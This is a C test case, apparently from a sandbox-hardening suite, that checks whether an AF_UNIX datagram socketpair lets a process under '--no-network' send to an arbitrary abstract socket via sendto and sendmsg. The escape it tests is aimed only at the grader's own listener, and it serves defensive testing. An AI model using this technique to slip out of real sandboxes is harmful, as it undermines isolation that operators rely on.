// attack: socketpair
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// setup: listener
// evidence: a socketpair(AF_UNIX, SOCK_DGRAM) is allowed under --no-network (asyncio, the JDK), but its socket sends to any address it names: sendto and then sendmsg with the grader's abstract datagram socket @sandlock-TOKEN-dgram as destination; evidence is the datagram arriving there
// escaped-if: conn abstract_dgram
#include "attack.h"
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv)) {
		say("socketpair: %s\n", strerror(errno));
		return 1;
	}
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	const char *name = arg("abstract_dgram");
	size_t n = strlen(name);
	memcpy(a.sun_path + 1, name, n);
	socklen_t len = offsetof(struct sockaddr_un, sun_path) + 1 + n;
	if (sendto(sv[0], "sendto", 6, 0, (void *)&a, len) < 0)
		say("sendto: %s\n", strerror(errno));
	struct iovec iov = { "sendmsg", 7 };
	struct msghdr m = { .msg_name = &a, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1 };
	if (sendmsg(sv[1], &m, 0) < 0)
		say("sendmsg: %s\n", strerror(errno));
	return 0;
}
